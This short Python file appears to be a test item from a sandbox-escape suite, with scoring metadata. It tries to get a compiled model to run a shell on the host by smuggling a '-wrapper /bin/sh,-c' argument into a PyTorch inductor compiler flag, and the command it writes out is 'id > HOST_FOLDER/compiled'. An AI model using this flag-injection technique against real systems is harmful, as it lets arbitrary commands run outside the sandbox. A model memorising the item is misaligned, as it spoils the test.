"""Has the model that a test lends compiled with a shell for a compiler: the tester would start it on the host.

score: generate=2
note: hidden_generate: .*every attempt was refused
lent: yes
"""
# %%
def attack(model):
    command = f"id > {HOST_FOLDER}/compiled"
    flag = f"off -wrapper /bin/sh,-c,'{command}'"
    try:
        model.compile(backend="inductor", options={"cpp.enable_floating_point_contract_flag": flag})
    except AttributeError:
        return
    model(torch.tensor([[1, 2, 3]]))
    yield "compile"
